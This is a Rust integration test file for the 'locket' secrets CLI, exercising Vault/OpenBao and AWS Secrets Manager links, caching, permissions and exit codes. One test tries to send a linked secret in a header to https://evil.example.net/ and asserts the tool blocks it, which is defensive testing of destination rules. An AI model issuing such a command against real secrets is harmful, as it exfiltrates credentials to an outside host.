//! External vaults end to end, against real servers started by the tests: OpenBao (`bao
//! server -dev`) for HashiCorp Vault, moto for AWS Secrets Manager. Integrations, links, the
//! cache, single-flight fetching, destination rules and exit codes, through the `locket`
//! binary.

mod common;

use common::servers::{Bao, Moto};
use common::*;
use predicates::prelude::*;

const API_KEY: &str = "bao-api-key-5f1c9e2a";
const DB_PASSWORD: &str = "bao-db-password-77aa";

/// A vault with an `hcv` integration `bao` (token from VAULT_TOKEN) and `secret/app` seeded.
fn vault_with_bao(bao: &Bao) -> TestVault {
    bao.ok(&[
        "kv",
        "put",
        "secret/app",
        &format!("api-key={API_KEY}"),
        &format!("db={DB_PASSWORD}"),
    ]);
    let v = TestVault::new();
    v.cmd()
        .args(["integration", "add", "hcv", "bao"])
        .env("VAULT_ADDR", &bao.addr)
        .env("VAULT_TOKEN", &bao.token)
        .assert()
        .success()
        .stderr(predicate::str::contains("policies: root"));
    v
}

fn link(v: &TestVault, name: &str, reference: &str, extra: &[&str]) {
    v.cmd()
        .args(["link", name, reference])
        .args(extra)
        .assert()
        .success();
}

#[test]
fn hcv_token_from_the_environment_link_and_use_everywhere() {
    let bao = Bao::start();
    let v = vault_with_bao(&bao);
    // Credentials were stored: no VAULT_* variable from here on.
    v.cmd()
        .args(["integration", "test", "bao"])
        .assert()
        .success()
        .stderr(predicate::str::contains("bao (hcv)"));
    let listed = v
        .cmd()
        .args(["integration", "list", "--json"])
        .output()
        .unwrap();
    let listed: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert_eq!(listed[0]["kind"], "hcv");
    assert!(!listed.to_string().contains(&bao.token));

    link(
        &v,
        "api",
        "hcv://secret/app#api-key",
        &["--allow", "127.0.0.1"],
    );
    link(&v, "app", "hcv://secret/app", &[]);
    let list = v.cmd().args(["list"]).output().unwrap();
    let list = String::from_utf8(list.stdout).unwrap();
    assert!(list.contains("bao:hcv://secret/app#api-key"), "{list}");
    assert!(list.contains("(linked)"), "{list}");

    assert_eq!(v.get("api"), API_KEY);
    let out = render_with(&v, "key={{vault:api}} all={{vault:app}}\n", &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(
        text,
        format!("key={API_KEY} all={{\"api-key\":\"{API_KEY}\",\"db\":\"{DB_PASSWORD}\"}}\n")
    );

    // exec resolves linked secrets in the environment and masks them in the output.
    v.cmd()
        .args(["exec", "--", "sh", "-c", "echo \"key=$API\""])
        .env("API", "{{vault:api}}")
        .assert()
        .success()
        .stdout("key=********\n");

    // Destination rules apply to linked secrets as to local ones.
    v.cmd()
        .args([
            "send",
            "https://evil.example.net/",
            "-H",
            "X-Key: {{vault:api}}",
        ])
        .assert()
        .code(4)
        .stderr(predicate::str::contains(
            "not allowed to be sent to https://evil.example.net",
        ));

    v.cmd()
        .arg("check")
        .write_stdin("{{vault:api}}")
        .assert()
        .success();
    v.cmd()
        .arg("doctor")
        .assert()
        .success()
        .stdout(predicate::str::contains("bao (hcv): token"));

    // Exported with its link (no value); imported into a vault that has the integration.
    let export = v.cmd().args(["export", "--plaintext"]).output().unwrap();
    let export = String::from_utf8(export.stdout).unwrap();
    assert!(export.contains("hcv://secret/app#api-key") && !export.contains(API_KEY));
    assert_not_in_vault_files(&v, &[API_KEY, DB_PASSWORD, &bao.token]);
}

#[test]
fn hcv_kv1_mounts_versions_and_precise_errors() {
    let bao = Bao::start();
    let v = vault_with_bao(&bao);
    bao.ok(&["secrets", "enable", "-path=kv1", "-version=1", "kv"]);
    bao.ok(&["kv", "put", "kv1/team/x", "token=kv1-token-value"]);
    bao.ok(&["kv", "put", "secret/rotating", "v=first-version-value"]);
    bao.ok(&["kv", "put", "secret/rotating", "v=second-version-value"]);
    link(&v, "one", "hcv://kv1/team/x#token", &[]);
    link(&v, "old", "hcv://secret/rotating?version=1#v", &[]);
    link(&v, "new", "hcv://secret/rotating#v", &[]);
    let out = render_with(&v, "{{vault:one}} {{vault:old}} {{vault:new}}", &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        String::from_utf8(out.stdout).unwrap(),
        "kv1-token-value first-version-value second-version-value"
    );

    // A missing key is "not found" (exit 4) and names the key; nothing is printed.
    link(&v, "nokey", "hcv://secret/app#nope", &[]);
    let out = render_with(&v, "{{vault:api}}{{vault:nokey}}", &[]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    assert!(out.stdout.is_empty());
    assert!(stderr(&out).contains("nope"), "{}", stderr(&out));

    // --check fetches before linking: a missing secret links nothing.
    v.cmd()
        .args(["link", "ghost", "hcv://secret/does-not-exist#k", "--check"])
        .assert()
        .code(4)
        .stderr(predicate::str::contains("nothing was linked"));
    v.cmd().args(["get", "ghost"]).assert().code(4);
}

#[test]
fn hcv_approle_from_the_environment_and_permission_denied() {
    let bao = Bao::start();
    bao.ok(&["auth", "enable", "approle"]);
    let policy = "path \"secret/data/allowed/*\" { capabilities = [\"read\"] }\n\
                  path \"sys/internal/ui/mounts/*\" { capabilities = [\"read\"] }";
    let policy_file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(policy_file.path(), policy).unwrap();
    bao.ok(&[
        "policy",
        "write",
        "reader",
        policy_file.path().to_str().unwrap(),
    ]);
    bao.ok(&[
        "write",
        "auth/approle/role/app",
        "token_policies=reader",
        "token_ttl=1h",
    ]);
    let role_id = bao.ok(&["read", "-field=role_id", "auth/approle/role/app/role-id"]);
    let secret_id = bao.ok(&[
        "write",
        "-f",
        "-field=secret_id",
        "auth/approle/role/app/secret-id",
    ]);
    bao.ok(&[
        "kv",
        "put",
        "secret/allowed/one",
        "v=approle-readable-value",
    ]);
    bao.ok(&["kv", "put", "secret/private/two", "v=approle-hidden-value"]);

    let v = TestVault::new();
    v.cmd()
        .args(["integration", "add", "hcv", "ar", "--address", &bao.addr])
        .env("VAULT_ROLE_ID", role_id.trim())
        .env("VAULT_SECRET_ID", secret_id.trim())
        .assert()
        .success();
    v.cmd()
        .args(["integration", "list"])
        .assert()
        .stdout(predicate::str::contains("approle auth"));
    link(&v, "readable", "hcv://secret/allowed/one#v", &[]);
    link(&v, "hidden", "hcv://secret/private/two#v", &[]);
    assert_eq!(v.get("readable"), "approle-readable-value");
    let out = render_with(&v, "{{vault:hidden}}", &[]);
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("permission denied"),
        "{}",
        stderr(&out)
    );
    assert!(!stderr(&out).contains("approle-hidden-value"));
    assert_not_in_vault_files(&v, &[secret_id.trim(), "approle-readable-value"]);

    // reauth takes a new secret id from stdin, keeping the address and role.
    let fresh = bao.ok(&[
        "write",
        "-f",
        "-field=secret_id",
        "auth/approle/role/app/secret-id",
    ]);
    v.cmd()
        .args([
            "integration",
            "reauth",
            "ar",
            "--secret-id-stdin",
            "--role-id",
            role_id.trim(),
        ])
        .write_stdin(fresh.clone())
        .assert()
        .success();
    v.cmd()
        .args(["integration", "test", "ar"])
        .assert()
        .success();
}

#[test]
fn cache_serves_a_stopped_server_then_reset_and_allow_stale() {
    let mut bao = Bao::start();
    let v = vault_with_bao(&bao);
    link(&v, "api", "hcv://secret/app#api-key", &[]);
    let out = render_with(&v, "{{vault:api}}", &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    v.cmd()
        .args(["cache", "list"])
        .assert()
        .success()
        .stdout(predicate::str::contains("api").and(predicate::str::contains("in 60 minutes")));

    bao.stop();
    // Fresh in the cache: served without the server.
    let out = render_with(&v, "{{vault:api}}", &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(String::from_utf8(out.stdout).unwrap(), API_KEY);
    // --refresh must reach the server: exit 5, and the message offers --allow-stale.
    let out = render_with(&v, "{{vault:api}}", &["--refresh"]);
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    assert!(stderr(&out).contains("--allow-stale"), "{}", stderr(&out));
    assert!(out.stdout.is_empty());
    let out = render_with(&v, "{{vault:api}}", &["--refresh", "--allow-stale"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("could not be reached"),
        "{}",
        stderr(&out)
    );
    assert_eq!(String::from_utf8(out.stdout).unwrap(), API_KEY);

    v.cmd().args(["cache", "reset", "api"]).assert().success();
    let out = render_with(&v, "{{vault:api}}", &["--allow-stale"]);
    assert_eq!(out.status.code(), Some(5), "nothing left to be stale with");
    assert!(!stderr(&out).contains("--allow-stale uses it"));

    v.cmd().args(["cache", "ttl", "0"]).assert().success();
    v.cmd()
        .args(["cache", "ttl"])
        .assert()
        .stdout("0 (caching is off)\n");
    v.cmd()
        .args(["cache", "list"])
        .assert()
        .stderr(predicate::str::contains("empty"));
}

/// Counts the reads the server received of one KV v2 path, from its audit log.
fn reads_of(audit_log: &std::path::Path, path: &str) -> usize {
    let log = std::fs::read_to_string(audit_log).unwrap_or_default();
    log.lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|e| {
            e["type"] == "request"
                && e["request"]["operation"] == "read"
                && e["request"]["path"] == path
        })
        .count()
}

#[test]
fn a_thousand_references_make_one_request_and_refused_secrets_none() {
    let audit = tempfile::tempdir().unwrap();
    let log = audit.path().join("audit.log");
    let bao = Bao::with_audit_log(&log);
    let v = vault_with_bao(&bao);
    // Two names for one external secret, and a third for another key of the same secret.
    link(&v, "a", "hcv://secret/app#api-key", &[]);
    link(&v, "b", "hcv://secret/app#api-key", &[]);
    let mut template = String::new();
    for i in 0..1000 {
        template.push_str(if i % 2 == 0 {
            "{{vault:a}}\n"
        } else {
            "{{vault:b}}\n"
        });
    }
    let out = render_with(&v, &template, &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(out.stdout.len(), 1000 * (API_KEY.len() + 1));
    assert_eq!(
        reads_of(&log, "secret/data/app"),
        1,
        "one fetch for 1,000 references"
    );
    // The audit log hashes values by default: the plaintext is not there either.
    assert!(!std::fs::read_to_string(&log).unwrap().contains(API_KEY));

    // A secret refused for the destination is never fetched at all.
    link(
        &v,
        "scoped",
        "hcv://secret/app#db",
        &["--allow", "api.example.com"],
    );
    v.cmd()
        .args([
            "send",
            "https://other.example.org/",
            "-H",
            "X: {{vault:scoped}}",
        ])
        .assert()
        .code(4);
    assert_eq!(reads_of(&log, "secret/data/app"), 1);
}

#[test]
fn link_rules_removed_integrations_and_unlink() {
    let bao = Bao::start();
    let v = TestVault::new();
    v.cmd()
        .args(["link", "x", "hcv://secret/app#k"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("no hcv integration yet"));
    v.cmd()
        .args(["link", "x", "secret/app"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("not a provider reference"));
    for name in ["one", "two"] {
        v.cmd()
            .args([
                "integration",
                "add",
                "hcv",
                name,
                "--address",
                &bao.addr,
                "--token-stdin",
            ])
            .write_stdin(bao.token.clone())
            .assert()
            .success();
    }
    v.cmd()
        .args([
            "integration",
            "add",
            "hcv",
            "one",
            "--address",
            &bao.addr,
            "--no-test",
        ])
        .env("VAULT_TOKEN", "whatever")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("already exists"));
    v.cmd()
        .args(["link", "x", "hcv://secret/app#api-key"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "several hcv integrations (one, two)",
        ));
    v.cmd()
        .args(["link", "x", "aws-sm://prod/db", "--integration", "one"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("integration one is hcv"));
    v.cmd()
        .args(["link", "x", "hcv://", "--integration", "one"])
        .assert()
        .code(2);

    v.set("local", "keep-this-local-value");
    v.cmd()
        .args([
            "link",
            "local",
            "hcv://secret/app#api-key",
            "--integration",
            "one",
        ])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--replace"));
    assert_eq!(v.get("local"), "keep-this-local-value");

    bao.ok(&["kv", "put", "secret/app", &format!("api-key={API_KEY}")]);
    link(
        &v,
        "x",
        "hcv://secret/app#api-key",
        &["--integration", "two"],
    );
    v.cmd()
        .args(["set", "x"])
        .write_stdin("v")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("unlink"));

    v.cmd()
        .args(["integration", "remove", "two"])
        .assert()
        .success()
        .stderr(predicate::str::contains("x"));
    let out = render_with(&v, "{{vault:x}}", &[]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("integration \"two\", which was removed"),
        "{}",
        stderr(&out)
    );

    v.cmd().args(["unlink", "x"]).assert().success();
    v.cmd().args(["get", "x"]).assert().success().stdout("\n");
    v.cmd().args(["unlink", "x"]).assert().code(2);
}

#[test]
fn an_unreachable_server_is_exit_5_and_add_checks_sign_in() {
    let v = TestVault::new();
    let dead = format!("http://127.0.0.1:{}", common::servers::free_port());
    v.cmd()
        .args(["integration", "add", "hcv", "down", "--address", &dead])
        .env("VAULT_TOKEN", "s.not-a-real-token-123")
        .assert()
        .code(5);
    v.cmd()
        .args(["integration", "list"])
        .assert()
        .stderr(predicate::str::contains("No integrations"));
    v.cmd()
        .args([
            "integration",
            "add",
            "hcv",
            "down",
            "--address",
            &dead,
            "--no-test",
        ])
        .env("VAULT_TOKEN", "s.not-a-real-token-123")
        .assert()
        .success();
    link(&v, "x", "hcv://secret/app#k", &[]);
    let out = render_with(&v, "{{vault:x}}", &[]);
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    assert!(!stderr(&out).contains("not-a-real-token"));
    v.cmd()
        .args(["integration", "test", "down"])
        .assert()
        .code(5)
        .stderr(predicate::str::contains("integration down"));
    // doctor warns (the vault itself is sound) and says what to do.
    v.cmd()
        .arg("doctor")
        .assert()
        .success()
        .stdout(predicate::str::contains("locket integration reauth down"));
    v.cmd()
        .args(["integration", "add", "hcv", "bad", "--region", "us-east-1"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--region applies to aws"));
}

const AWS_SECRET_KEY: &str = "locketE2eSecretAccessKey0123456789abcdef";

#[test]
fn aws_with_stored_keys_json_keys_stages_and_binary() {
    let moto = Moto::start();
    moto.python(
        "sm.create_secret(Name='prod/db', SecretString='{\"password\":\"aws-json-password\",\"user\":\"app\"}')\n\
         sm.create_secret(Name='plain', SecretString='aws-first-value')\n\
         sm.put_secret_value(SecretId='plain', SecretString='aws-second-value')\n\
         sm.create_secret(Name='blob', SecretBinary=bytes([0, 159, 146, 150]))",
    );
    let v = TestVault::new();
    v.cmd()
        .args(["integration", "add", "aws", "prod"])
        .env("AWS_ACCESS_KEY_ID", "AKIALOCKETE2ETEST01")
        .env("AWS_SECRET_ACCESS_KEY", AWS_SECRET_KEY)
        .env("AWS_REGION", "us-east-1")
        .env("AWS_ENDPOINT_URL", &moto.endpoint)
        .assert()
        .success();
    v.cmd()
        .args(["integration", "list"])
        .assert()
        .stdout(predicate::str::contains("stored key").and(predicate::str::contains("us-east-1")));
    link(&v, "pw", "aws-sm://prod/db#password", &[]);
    link(&v, "current", "aws-sm://plain", &[]);
    link(
        &v,
        "previous",
        "aws-sm://plain?version-stage=AWSPREVIOUS",
        &[],
    );
    link(&v, "blob", "aws-sm://blob", &[]);
    link(&v, "blob64", "aws-sm://blob?encoding=base64", &[]);
    // No AWS_* variable now: the stored keys, region and endpoint are used.
    let out = render_with(
        &v,
        "{{vault:pw}} {{vault:current}} {{vault:previous}} {{vault:blob64}}",
        &[],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        String::from_utf8(out.stdout).unwrap(),
        "aws-json-password aws-second-value aws-first-value AJ+Slg=="
    );
    let out = render_with(&v, "{{vault:blob}}", &[]);
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    assert!(stderr(&out).contains("encoding=base64"), "{}", stderr(&out));
    assert_not_in_vault_files(
        &v,
        &[AWS_SECRET_KEY, "aws-json-password", "aws-second-value"],
    );

    link(&v, "missing", "aws-sm://no-such-secret", &[]);
    let out = render_with(&v, "{{vault:missing}}", &[]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
}

/// Each kind's flags come from the providers' registry: `add KIND --help` shows that kind's
/// flags and no other's, the list of kinds names them all, and `reauth` takes every kind's
/// credential flags.
#[test]
fn integration_help_is_per_kind() {
    let help = |args: &[&str]| {
        let out = bare_locket().args(args).output().unwrap();
        assert!(out.status.success(), "{args:?}: {out:?}");
        String::from_utf8(out.stdout).unwrap()
    };
    let own: [(&str, &[&str]); 5] = [
        ("hcv", &["--address", "--token-stdin", "--secret-id-stdin"]),
        (
            "aws",
            &["--region", "--profile", "--role-arn", "--default-chain"],
        ),
        (
            "azure",
            &[
                "--tenant",
                "--sign-in",
                "--client-secret-stdin",
                "--no-browser",
            ],
        ),
        (
            "gcp",
            &[
                "--project",
                "--credentials-file",
                "--metadata",
                "--endpoint",
            ],
        ),
        (
            "1password",
            &[
                "--connect-host",
                "--service-account-token-stdin",
                "--op-path",
            ],
        ),
    ];
    for (kind, _) in own {
        let text = help(&["integration", "add", kind, "--help"]);
        for (other, other_flags) in own {
            for flag in other_flags {
                assert_eq!(
                    text.contains(&format!("{flag} ")) || text.contains(&format!("{flag}\n")),
                    other == kind,
                    "`integration add {kind} --help` and {flag} (of {other}):\n{text}"
                );
            }
        }
        for common in ["--ca-cert", "--timeout", "--no-test"] {
            assert!(text.contains(common), "{kind}: {common}\n{text}");
        }
    }
    let text = help(&["integration", "add", "aws", "--help"]);
    assert!(
        text.contains("AWS_PROFILE") && !text.contains("VAULT_ADDR"),
        "{text}"
    );
    let text = help(&["integration", "add", "--help"]);
    for kind in ["hcv", "aws", "azure", "gcp", "1password"] {
        assert!(text.contains(kind), "{kind} missing:\n{text}");
    }
    let text = help(&["integration", "reauth", "--help"]);
    for flag in [
        "--token-stdin",
        "--role-id",
        "--default-chain",
        "--certificate",
    ] {
        assert!(text.contains(flag), "{flag} missing:\n{text}");
    }
    assert!(!text.contains("--region"), "{text}");
    let text = help(&["--help"]);
    assert!(!text.contains("(hcv)") && !text.contains("(aws)"), "{text}");
    let text = help(&["link", "--help"]);
    for scheme in [
        "hcv://",
        "aws-sm://",
        "gcp-sm://",
        "op://",
        ".vault.azure.net",
    ] {
        assert!(text.contains(scheme), "{scheme} missing:\n{text}");
    }
}
